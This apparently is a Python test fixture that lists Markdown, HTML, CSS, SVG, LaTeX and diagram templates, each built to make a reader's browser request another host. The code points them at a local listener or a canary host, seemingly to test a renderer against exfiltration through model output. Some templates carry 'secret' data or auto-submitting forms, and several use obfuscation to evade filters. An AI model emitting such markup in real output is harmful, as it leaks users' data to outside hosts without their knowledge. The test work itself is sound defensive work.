"""What a model, a gateway or a file may write in order to make the reader's browser ask something of another host.

`@` stands for an address that nobody else knows, `%` for the same without its scheme.
"""

from __future__ import annotations

from collections.abc import Iterator

_IMAGES = (
    "![a](@)", "![a](@ \"title\")", "![a](<@>)", "![](@)", "![a][r%]\n\n[r%]: @", "![r%]\n\n[r%]: @", "![r%][]\n\n[r%]: @ 'title'", "![a](//%)", "![a](HTTP://%)", "![a\nb](@)", "![a]( @ )", "![*a*](@)",
    "[![a](@)](https://ok.example)", "| a | b |\n|---|---|\n| ![a](@) | c |", "x[^f%]\n\n[^f%]: ![a](@)", "# ![a](@)", "![a](@)\n===", "> ![a](@)", "- ![a](@)", "- [ ] ![a](@)", "1. ![a](@)", "**![a](@)**", "~~![a](@)~~",
    ":red[![a](@)]", ":blue-badge[![a](@)]", ":rainbow[![a](@)]", ":small[![a](@)]", ":color[![a](@)]{foreground=red}", "\\\\![a](@)", "\\!![a](@)", "!\\[a](@) ![a](@)", "`x` ![a](@) `y`", "``` ![a](@) ``` ![b](@)",
    "$x$ ![a](@) $y$", "![a](@&#x3f;x=1)", "&#33;![a](@)", "![a](@?data=secret#x)", "<details>\n\n![a](@)\n\n</details>", "![a](@)![b](@)![c](@)", "***\n![a](@)\n***", "x\n![a](@)\ny", "[r%]: @\n\n![a][R%]", "> [r%]: @\n\n![a][r%]",
    "![outer ![inner](@)](@)", "[a](https://ok.example \"![b](@)\")", "![a](@ (title))", "!\u200b[a](@) ![a](@)",
)  # fmt: skip

_MARKUP = (
    "<img src=\"@\">", "<img srcset=\"@ 1x, @?2 2x\">", "<picture><source srcset=\"@\"><img></picture>", "<img src=x lowsrc=@ dynsrc=@>", "<input type=image src=\"@\">", "<video poster=\"@\"></video>", "<video src=\"@\" autoplay></video>", "<audio src=\"@\" autoplay></audio>",
    "<video autoplay><source src=\"@\"></video>", "<video autoplay><track default kind=captions src=\"@\"></video>", "<iframe src=\"@\"></iframe>", "<iframe srcdoc=\"<img src='@'>\"></iframe>", "<object data=\"@\"></object>", "<embed src=\"@\">", "<frameset><frame src=\"@\"></frameset>",
    "<link rel=stylesheet href=\"@\">", "<link rel=prefetch href=\"@\">", "<link rel=preload as=image href=\"@\">", "<link rel=preconnect href=\"@\">", "<link rel=dns-prefetch href=\"//%\">", "<link rel=modulepreload href=\"@\">", "<link rel=manifest href=\"@\">", "<link rel=icon href=\"@\">", "<link rel=prerender href=\"@\">",
    "<style>@import '@';</style>", "<style>@import url(@);</style>", "<style>body{background:url(@)}</style>", "<style>@font-face{font-family:f;src:url(@)}*{font-family:f}</style>", "<style>*{list-style-image:url(@);cursor:url(@),auto}</style>", "<div style=\"background:url(@)\">x</div>",
    "<div style=\"background-image:image-set('@' 1x)\">x</div>", "<div style=\"border-image:url(@) 30;border:9px solid\">x</div>", "<p style=\"content:url(@)\">x</p>", "<table background=\"@\"><tr><td>x</table>", "<body background=\"@\">", "<meta http-equiv=refresh content=\"0;url=@\">", "<meta http-equiv=refresh content=\"0;url=//%\">",
    "<svg><image href=\"@\" width=9 height=9 /></svg>", "<svg><image xlink:href=\"@\" width=9 height=9 /></svg>", "<svg><use href=\"@#x\"/></svg>", "<svg><foreignObject width=9 height=9><img src=\"@\"></foreignObject></svg>", "<svg><feImage href=\"@\"/></svg>", "<svg><style>@import url(@);</style></svg>", "<svg><rect filter=\"url(@#f)\" width=9 height=9 /></svg>",
    "<script src=\"@\"></script>", "<script>fetch('@')</script>", "<script>new WebSocket('ws://%')</script>", "<script>new EventSource('@')</script>", "<script>navigator.sendBeacon('@')</script>", "<script>new Image().src='@'</script>", "<script>import('@')</script>", "<script>new Worker('@')</script>", "<script>location='@'</script>", "<script>open('@')</script>",
    "<a href=\"https://ok.example\" ping=\"@\">x</a>", "<form action=\"@\"><input name=q value=secret></form><script>document.forms[0].submit()</script>", "<form action=\"@\"><button>x</button></form>", "<base href=\"@/\"><img src=x>", "<img src=x onerror=\"this.src='@'\">", "<svg onload=\"fetch('@')\">", "<portal src=\"@\"></portal>",
    "<noscript><img src=\"@\"></noscript><img src=@>", "<template shadowrootmode=open><img src=@></template>", "<div><template shadowrootmode=open><style>:host{background:url(@)}</style>x</template></div>", "<!--><img src=@>-->", "<math><mtext><img src=@></mtext></math>", "<object type=image/svg+xml data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@'/></svg>\"></object>", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@'/></svg>\">",
)  # fmt: skip

_DRAWN = (
    "$\\includegraphics{@}$", "$$\n\\includegraphics[height=1em]{@}\n$$", "$\\href{@}{x}$", "\\(\\htmlStyle{background:url(@)}{x}\\)", "```mermaid\ngraph TD\nA[\"<img src='@'>\"]\n```", "```mermaid\ngraph TD\nA@{ img: \"@\", label: \"x\" }\n```", "```mermaid\n%%{init: {\"themeCSS\": \"@import url(@); *{background:url(@)}\"}}%%\ngraph TD\nA-->B\n```", "```mermaid\ngraph TD\nA-->B\nstyle A fill:url(@)\n```",
    "```mermaid\ngraph TD\nA@{ \"\\x69mg\": \"@\" }\n```", "```mermaid\nsequenceDiagram\nparticipant A\nproperties A: {\"icon\": \"@\"}\nA->>A: x\n```", "```mermaid\nsequenceDiagram\nparticipant A\nproperties A: {\"\\u0069con\": \"@\"}\nA->>A: x\n```", "```mermaid\nclassDiagram\nclass A\nstyle A background:url(@)\n```",
    "```mermaid\nstateDiagram-v2\n[*] --> A\nclassDef c background:url(@)\nclass A c\n```", "~~~ mermaid\nstateDiagram-v2\n[*] --> A\nclassDef c background:URL(\"@\")\nclass A c\n~~~",
    "```mer&#109;aid\nsequenceDiagram\nparticipant A\nproperties A: {\"icon\": \"@\"}\nA->>A: x\n```",
    "```graphviz\ndigraph { a [image=\"@\" label=<<img src=\"@\"/>>] }\n```", "```vega-lite\n{\"data\": {\"url\": \"@\"}, \"mark\": {\"type\": \"image\", \"url\": \"@\"}}\n```", "```geojson\n{\"type\": \"Feature\", \"properties\": {\"icon\": \"@\"}}\n```", "```html\n<img src=\"@\">\n```", "```plantuml\n!include @\n```", "```svg\n<svg><image href=\"@\"/></svg>\n```",
    "::img{src=\"@\"}", ":color[x]{background=\"url(@)\"}", ":color[x]{foreground=\"red;background:url(@)\"}", ":material/@:", ":streamlit:![a](@)", "::video{src=\"@\"}", "[[embed:@]]", "{{< figure src=\"@\" >}}", "![[@]]", "!include @", "<https://ok.example/![a](@)>", "https://ok.example/![a](@)",
)  # fmt: skip

TEMPLATES: tuple[str, ...] = tuple(dict.fromkeys((*_IMAGES, *_MARKUP, *_DRAWN)))


def fetches(port: int) -> tuple[str, ...]:
    """Every form with an address of its own. Form n asks for `/f/n` of a listener at that port of 127.0.0.1, and every
    fifth for a host without an address."""
    return tuple(_pointed(form, n, port) for n, form in enumerate(TEMPLATES))


def _pointed(form: str, n: int, port: int) -> str:
    place = f"f{n}.canary.example/f/{n}" if n % 5 == 4 else f"127.0.0.1:{port}/f/{n}"
    kept = form.replace("@import", "\0i").replace("@font-face", "\0f").replace("A@{", "\0a")
    kept = (
        kept.replace("//%", f"//{place}")
        .replace("[r%]", f"[r{n}]")
        .replace("[R%]", f"[R{n}]")
        .replace("[^f%]", f"[^f{n}]")
    )
    kept = kept.replace("@", f"http://{place}")
    return kept.replace("\0i", "@import").replace("\0f", "@font-face").replace("\0a", "A@{")


def families() -> Iterator[tuple[str, int]]:
    """What kind each form is, and how many there are: for what a test reports."""
    yield from (
        ("images in Markdown", len(_IMAGES)),
        ("markup", len(_MARKUP)),
        ("drawings and directives", len(_DRAWN)),
    )
